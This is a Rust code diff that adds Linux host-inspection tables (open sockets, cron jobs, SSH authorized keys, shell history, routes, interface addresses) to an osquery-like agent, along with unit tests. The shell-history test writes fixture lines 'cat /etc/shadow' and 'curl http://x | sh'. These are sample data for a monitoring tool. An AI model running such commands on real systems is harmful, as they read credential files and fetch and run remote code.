@@ -311,6 +311,145 @@ pub const TABLES: &[TableDef] = &[
         required: &[],
         generate: deb_packages,
     },
+    TableDef {
+        name: "process_open_sockets",
+        description: "Sockets open in processes (TCP and UDP, IPv4 and IPv6), with their process.",
+        platforms: LINUX,
+        columns: &[
+            col(
+                "pid",
+                Type::Integer,
+                "Owning process (-1 if not visible to the agent).",
+            ),
+            col(
+                "fd",
+                Type::Bigint,
+                "File descriptor in the process (-1 if unknown).",
+            ),
+            col("socket", Type::Bigint, "Socket inode."),
+            col("family", Type::Integer, "2 (IPv4) or 10 (IPv6)."),
+            col("protocol", Type::Integer, "6 (TCP) or 17 (UDP)."),
+            col("local_address", Type::Text, "Local address."),
+            col("remote_address", Type::Text, "Remote address."),
+            col("local_port", Type::Integer, "Local port."),
+            col("remote_port", Type::Integer, "Remote port."),
+            col("path", Type::Text, "Empty (UNIX sockets are not listed)."),
+            col(
+                "state",
+                Type::Text,
+                "TCP state (LISTEN, ESTABLISHED, ...); empty for UDP.",
+            ),
+            col(
+                "net_namespace",
+                Type::Text,
+                "Empty (the agent's namespace).",
+            ),
+        ],
+        required: &[],
+        generate: process_open_sockets,
+    },
+    TableDef {
+        name: "crontab",
+        description: "Cron jobs: /etc/crontab, /etc/cron.d/*, and users' crontabs.",
+        platforms: LINUX,
+        columns: &[
+            col(
+                "event",
+                Type::Text,
+                "The @ event (@reboot, @daily, ...), else empty.",
+            ),
+            col("minute", Type::Text, "Minute field."),
+            col("hour", Type::Text, "Hour field."),
+            col("day_of_month", Type::Text, "Day-of-month field."),
+            col("month", Type::Text, "Month field."),
+            col("day_of_week", Type::Text, "Day-of-week field."),
+            col(
+                "command",
+                Type::Text,
+                "The command (with its user field for system crontabs).",
+            ),
+            col("path", Type::Text, "The file it is in."),
+        ],
+        required: &[],
+        generate: crontab,
+    },
+    TableDef {
+        name: "authorized_keys",
+        description: "Keys in each local user's ~/.ssh/authorized_keys and authorized_keys2.",
+        platforms: LINUX,
+        columns: &[
+            col("uid", Type::Bigint, "The user."),
+            col(
+                "algorithm",
+                Type::Text,
+                "Key type (ssh-ed25519, ssh-rsa, ...).",
+            ),
+            col("key", Type::Text, "The key, base64."),
+            col("options", Type::Text, "Options before the key, if any."),
+            col("comment", Type::Text, "Comment after the key."),
+            col("key_file", Type::Text, "The file."),
+        ],
+        required: &[],
+        generate: authorized_keys,
+    },
+    TableDef {
+        name: "shell_history",
+        description: "Commands in each local user's shell history files (bash, zsh, sh).",
+        platforms: LINUX,
+        columns: &[
+            col("uid", Type::Bigint, "The user."),
+            col(
+                "time",
+                Type::Integer,
+                "When, seconds since the epoch (0 if the file has no times).",
+            ),
+            col("command", Type::Text, "The command line."),
+            col("history_file", Type::Text, "The file."),
+        ],
+        required: &[],
+        generate: shell_history,
+    },
+    TableDef {
+        name: "routes",
+        description: "The IPv4 routing table (main table, /proc/net/route).",
+        platforms: LINUX,
+        columns: &[
+            col("destination", Type::Text, "Destination network."),
+            col("netmask", Type::Integer, "Prefix length."),
+            col("gateway", Type::Text, "Gateway (0.0.0.0 if none)."),
+            col("source", Type::Text, "Empty (not in /proc/net/route)."),
+            col("flags", Type::Integer, "Route flags."),
+            col("interface", Type::Text, "Interface name."),
+            col("mtu", Type::Integer, "MTU (0: the interface's)."),
+            col("metric", Type::Integer, "Metric."),
+            col("type", Type::Text, "gateway or local (directly connected)."),
+        ],
+        required: &[],
+        generate: routes,
+    },
+    TableDef {
+        name: "interface_addresses",
+        description: "Addresses of the network interfaces (getifaddrs).",
+        platforms: LINUX,
+        columns: &[
+            col("interface", Type::Text, "Interface name."),
+            col("address", Type::Text, "Address."),
+            col("mask", Type::Text, "Netmask."),
+            col("broadcast", Type::Text, "Broadcast address, if any."),
+            col(
+                "point_to_point",
+                Type::Text,
+                "Peer address of a point-to-point link, if any.",
+            ),
+            col(
+                "type",
+                Type::Text,
+                "dhcp, manual or unknown (always unknown here).",
+            ),
+        ],
+        required: &[],
+        generate: interface_addresses,
+    },
 ];
 
 fn column(t: &str, name: &str) -> usize {
@@ -921,6 +1060,295 @@ fn deb_packages(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
     Ok(())
 }
 
+const TCP_STATE_NAMES: [&str; 13] = [
+    "UNKNOWN",
+    "ESTABLISHED",
+    "SYN_SENT",
+    "SYN_RECV",
+    "FIN_WAIT1",
+    "FIN_WAIT2",
+    "TIME_WAIT",
+    "CLOSE",
+    "CLOSE_WAIT",
+    "LAST_ACK",
+    "LISTEN",
+    "CLOSING",
+    "NEW_SYN_RECV",
+];
+
+fn process_open_sockets(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
+    let owners = socket_owners();
+    let mut socks: Vec<(i64, std::net::SocketAddr, std::net::SocketAddr, u64, &str)> = Vec::new();
+    for list in [procfs::net::tcp(), procfs::net::tcp6()] {
+        for s in list.unwrap_or_default() {
+            let state = TCP_STATE_NAMES
+                .get(s.state.to_u8() as usize)
+                .copied()
+                .unwrap_or("UNKNOWN");
+            socks.push((6, s.local_address, s.remote_address, s.inode, state));
+        }
+    }
+    for list in [procfs::net::udp(), procfs::net::udp6()] {
+        for s in list.unwrap_or_default() {
+            socks.push((17, s.local_address, s.remote_address, s.inode, ""));
+        }
+    }
+    for (protocol, local, remote, inode, state) in socks {
+        let (pid, fd) = owners.get(&inode).copied().unwrap_or((-1, -1));
+        out.push(vec![
+            pid.into(),
+            fd.into(),
+            inode.into(),
+            (if local.is_ipv4() { 2 } else { 10 }).into(),
+            protocol.into(),
+            local.ip().to_string().into(),
+            remote.ip().to_string().into(),
+            u32::from(local.port()).into(),
+            u32::from(remote.port()).into(),
+            "".into(),
+            state.into(),
+            "".into(),
+        ])?;
+    }
+    Ok(())
+}
+
+/// Local users as (uid, home directory), from /etc/passwd.
+fn homes() -> Result<Vec<(Value, PathBuf)>, TableError> {
+    Ok(colon_file("/etc/passwd")?
+        .into_iter()
+        .filter(|f| f.len() >= 7 && f[5].starts_with('/'))
+        .map(|f| (id(&f[2]).0, PathBuf::from(&f[5])))
+        .collect())
+}
+
+/// Every line of a crontab file as a row; `system`: lines carry a user field before the command.
+fn crontab_file(path: &Path, out: &mut Rows<'_>) -> Result<(), TableError> {
+    let Ok(text) = fs::read_to_string(path) else {
+        return Ok(());
+    };
+    for line in text.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let first = line.split_whitespace().next().unwrap_or_default();
+        // An environment setting (NAME=value) is not a job.
+        if first.contains('=') {
+            continue;
+        }
+        let p = path.display().to_string();
+        if first.starts_with('@') {
+            let command = line[first.len()..].trim();
+            out.push(vec![
+                first.into(),
+                "".into(),
+                "".into(),
+                "".into(),
+                "".into(),
+                "".into(),
+                command.into(),
+                p.into(),
+            ])?;
+            continue;
+        }
+        // Five time fields, then the command as written (its own spacing kept).
+        let mut rest = line;
+        let mut fields: Vec<&str> = Vec::with_capacity(5);
+        while fields.len() < 5 {
+            rest = rest.trim_start();
+            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
+            if end == 0 {
+                break;
+            }
+            fields.push(&rest[..end]);
+            rest = &rest[end..];
+        }
+        let command = rest.trim();
+        if fields.len() < 5 || command.is_empty() {
+            continue;
+        }
+        let mut row: Vec<Value> = vec!["".into()];
+        row.extend(fields.iter().map(|f| Value::from(*f)));
+        row.push(command.into());
+        row.push(p.into());
+        out.push(row)?;
+    }
+    Ok(())
+}
+
+/// The files of a directory, sorted (none if it cannot be read).
+fn files_in(dir: &str) -> Vec<PathBuf> {
+    let mut v: Vec<PathBuf> = fs::read_dir(dir)
+        .map(|d| {
+            d.flatten()
+                .map(|e| e.path())
+                .filter(|p| p.is_file())
+                .collect()
+        })
+        .unwrap_or_default();
+    v.sort();
+    v
+}
+
+fn crontab(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
+    crontab_file(Path::new("/etc/crontab"), out)?;
+    for f in files_in("/etc/cron.d") {
+        crontab_file(&f, out)?;
+    }
+    for f in files_in("/var/spool/cron/crontabs") {
+        crontab_file(&f, out)?;
+    }
+    Ok(())
+}
+
+/// Splits an authorized_keys line into (options, algorithm, key, comment).
+fn authorized_key(line: &str) -> Option<(String, String, String, String)> {
+    let is_algo =
+        |w: &str| w.starts_with("ssh-") || w.starts_with("ecdsa-") || w.starts_with("sk-");
+    let words: Vec<&str> = line.split_whitespace().collect();
+    let at = words.iter().position(|w| is_algo(w))?;
+    let options = if at == 0 {
+        String::new()
+    } else {
+        // Options may hold quoted spaces: everything before the algorithm.
+        let start = line.find(words[at])?;
+        line[..start].trim().to_owned()
+    };
+    let key = words.get(at + 1)?.to_string();
+    let comment = words[at + 2..].join(" ");
+    Some((options, words[at].to_owned(), key, comment))
+}
+
+fn authorized_keys(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
+    for (uid, home) in homes()? {
+        for name in ["authorized_keys", "authorized_keys2"] {
+            let file = home.join(".ssh").join(name);
+            let Ok(text) = fs::read_to_string(&file) else {
+                continue;
+            };
+            for line in text.lines() {
+                let line = line.trim();
+                if line.is_empty() || line.starts_with('#') {
+                    continue;
+                }
+                let Some((options, algorithm, key, comment)) = authorized_key(line) else {
+                    continue;
+                };
+                out.push(vec![
+                    uid.clone(),
+                    algorithm.into(),
+                    key.into(),
+                    options.into(),
+                    comment.into(),
+                    file.display().to_string().into(),
+                ])?;
+            }
+        }
+    }
+    Ok(())
+}
+
+fn shell_history(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
+    for (uid, home) in homes()? {
+        for name in [".bash_history", ".zsh_history", ".sh_history", ".history"] {
+            history_file(&uid, &home.join(name), out)?;
+        }
+    }
+    Ok(())
+}
+
+/// The commands of one history file (bash, with or without times; zsh extended history).
+fn history_file(uid: &Value, file: &Path, out: &mut Rows<'_>) -> Result<(), TableError> {
+    let Ok(bytes) = fs::read(file) else {
+        return Ok(());
+    };
+    let text = String::from_utf8_lossy(&bytes);
+    let shown = file.display().to_string();
+    let mut time = 0i64;
+    for line in text.lines() {
+        // bash with HISTTIMEFORMAT: "#<epoch>" before each command.
+        if let Some(t) = line.strip_prefix('#').and_then(|t| t.trim().parse().ok()) {
+            time = t;
+            continue;
+        }
+        // zsh extended history: ": <epoch>:<duration>;<command>".
+        let zsh = line
+            .strip_prefix(": ")
+            .and_then(|r| r.split_once(';'))
+            .and_then(|(meta, cmd)| Some((meta.split(':').next()?.trim().parse().ok()?, cmd)));
+        let (t, command) = zsh.unwrap_or((time, line));
+        time = 0;
+        if command.trim().is_empty() {
+            continue;
+        }
+        out.push(vec![
+            uid.clone(),
+            t.into(),
+            command.into(),
+            shown.clone().into(),
+        ])?;
+    }
+    Ok(())
+}
+
+fn routes(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
+    let list = procfs::net::route().map_err(|e| proc_error("/proc/net/route", e))?;
+    for r in list {
+        let prefix = u32::from(r.mask).count_ones();
+        let kind = if r.gateway.is_unspecified() {
+            "local"
+        } else {
+            "gateway"
+        };
+        out.push(vec![
+            r.destination.to_string().into(),
+            prefix.into(),
+            r.gateway.to_string().into(),
+            "".into(),
+            u32::from(r.flags).into(),
+            r.iface.clone().into(),
+            r.mtu.into(),
+            r.metrics.into(),
+            kind.into(),
+        ])?;
+    }
+    Ok(())
+}
+
+fn interface_addresses(_: &Constraints, out: &mut Rows<'_>) -> Result<(), TableError> {
+    let addrs = nix::ifaddrs::getifaddrs().map_err(|e| proc_error("the interface addresses", e))?;
+    let ip = |a: &Option<nix::sys::socket::SockaddrStorage>| -> Option<String> {
+        let a = a.as_ref()?;
+        if let Some(v4) = a.as_sockaddr_in() {
+            return Some(v4.ip().to_string());
+        }
+        a.as_sockaddr_in6().map(|v6| v6.ip().to_string())
+    };
+    for a in addrs {
+        // Link-layer entries (AF_PACKET) have no IP address: not listed, as in osquery.
+        let Some(address) = ip(&a.address) else {
+            continue;
+        };
+        use nix::net::if_::InterfaceFlags;
+        let p2p = a.flags.contains(InterfaceFlags::IFF_POINTOPOINT);
+        let (broadcast, peer) = if p2p {
+            (String::new(), ip(&a.destination).unwrap_or_default())
+        } else {
+            (ip(&a.broadcast).unwrap_or_default(), String::new())
+        };
+        out.push(vec![
+            a.interface_name.clone().into(),
+            address.into(),
+            ip(&a.netmask).unwrap_or_default().into(),
+            broadcast.into(),
+            peer.into(),
+            "unknown".into(),
+        ])?;
+    }
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     #[test]
@@ -938,5 +1366,104 @@ mod tests {
         ] {
             assert_eq!(super::like_to_glob(like), glob, "{like}");
         }
+    }
+
+    fn rows_of(f: impl FnOnce(&mut super::Rows<'_>)) -> Vec<Vec<String>> {
+        let mut out = Vec::new();
+        f(&mut super::Rows::new("t", 8, &mut out));
+        out.iter()
+            .map(|r| r.iter().map(|v| v.to_string()).collect())
+            .collect()
+    }
+
+    #[test]
+    fn crontab_lines_become_rows() {
+        let dir = tempfile::tempdir().unwrap();
+        let p = dir.path().join("crontab");
+        std::fs::write(
+            &p,
+            "# comment\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
+             @reboot root /usr/local/bin/start\n*/5  1-3 * jan mon-fri  backup --all\n",
+        )
+        .unwrap();
+        let rows = rows_of(|o| super::crontab_file(&p, o).unwrap());
+        let ps = p.display().to_string();
+        assert_eq!(
+            rows,
+            vec![
+                vec![
+                    "",
+                    "17",
+                    "*",
+                    "*",
+                    "*",
+                    "*",
+                    "root cd / && run-parts --report /etc/cron.hourly",
+                    &ps
+                ],
+                vec![
+                    "@reboot",
+                    "",
+                    "",
+                    "",
+                    "",
+                    "",
+                    "root /usr/local/bin/start",
+                    &ps
+                ],
+                vec!["", "*/5", "1-3", "*", "jan", "mon-fri", "backup --all", &ps],
+            ]
+        );
+    }
+
+    #[test]
+    fn authorized_keys_lines_split_into_options_key_and_comment() {
+        assert_eq!(
+            super::authorized_key("ssh-ed25519 AAAAC3Nza alice@laptop"),
+            Some((
+                "".into(),
+                "ssh-ed25519".into(),
+                "AAAAC3Nza".into(),
+                "alice@laptop".into()
+            ))
+        );
+        assert_eq!(
+            super::authorized_key(
+                r#"from="10.0.0.1",command="echo hi there" ecdsa-sha2-nistp256 AAAAE2 ci key"#
+            ),
+            Some((
+                r#"from="10.0.0.1",command="echo hi there""#.into(),
+                "ecdsa-sha2-nistp256".into(),
+                "AAAAE2".into(),
+                "ci key".into()
+            ))
+        );
+        assert_eq!(super::authorized_key("not a key"), None);
+    }
+
+    #[test]
+    fn history_files_of_bash_and_zsh_give_commands_and_times() {
+        let dir = tempfile::tempdir().unwrap();
+        let bash = dir.path().join(".bash_history");
+        std::fs::write(&bash, "ls -la\n#1700000000\ncat /etc/shadow\n").unwrap();
+        let zsh = dir.path().join(".zsh_history");
+        std::fs::write(&zsh, ": 1700000100:0;curl http://x | sh\n").unwrap();
+        let uid = super::Value::Int(1000);
+        let rows = rows_of(|o| {
+            super::history_file(&uid, &bash, o).unwrap();
+            super::history_file(&uid, &zsh, o).unwrap();
+        });
+        let cmds: Vec<(&str, &str)> = rows
+            .iter()
+            .map(|r| (r[1].as_str(), r[2].as_str()))
+            .collect();
+        assert_eq!(
+            cmds,
+            vec![
+                ("0", "ls -la"),
+                ("1700000000", "cat /etc/shadow"),
+                ("1700000100", "curl http://x | sh")
+            ]
+        );
     }
 }
